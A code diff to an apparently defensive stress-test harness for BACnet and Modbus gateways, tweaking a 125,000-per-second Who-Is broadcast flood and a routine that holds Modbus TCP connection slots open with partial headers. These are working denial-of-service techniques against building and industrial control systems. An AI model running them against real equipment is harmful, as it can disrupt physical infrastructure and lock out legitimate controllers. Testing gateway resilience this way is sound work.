@@ -278,9 +278,9 @@ def _ai_objects() -> list[tuple[str, int]]:
 
 
 def who_is_flood(target: Target, seconds: float) -> dict[str, Any]:
-    """Global Who-Is as fast as one process sends them (the issue: 125,000 a second)."""
+    """Global Who-Is, 125,000 a second (or as many as one process can send)."""
     who_is = bvll(bytes.fromhex("0120ffff00ff1008"))
-    return _flood(target.bacnet, lambda _: who_is, seconds, int(125_000 * seconds))
+    return _flood(target.bacnet, lambda _: who_is, seconds, int(125_000 * seconds), per_second=125_000)
 
 
 def time_sync_flood(target: Target, seconds: float) -> dict[str, Any]:
@@ -427,12 +427,13 @@ def modbus_idle_connections(target: Target, seconds: float) -> dict[str, Any]:
     a header and nothing more."""
     held = [sock for sock in (_connect(target.modbus_tcp) for _ in range(16)) if sock is not None]
     for sock in held[8:]:
-        sock.send(b"\x00\x01\x00")
+        with contextlib.suppress(OSError):  # refused: a legitimate master held a place meanwhile
+            sock.send(b"\x00\x01\x00")
     time.sleep(seconds)
     closed_by_gateway = 0
     for sock in held:
         sock.setblocking(False)
-        with contextlib.suppress(BlockingIOError):
+        with contextlib.suppress(BlockingIOError, ConnectionError):
             if sock.recv(1) == b"":
                 closed_by_gateway += 1
         sock.close()
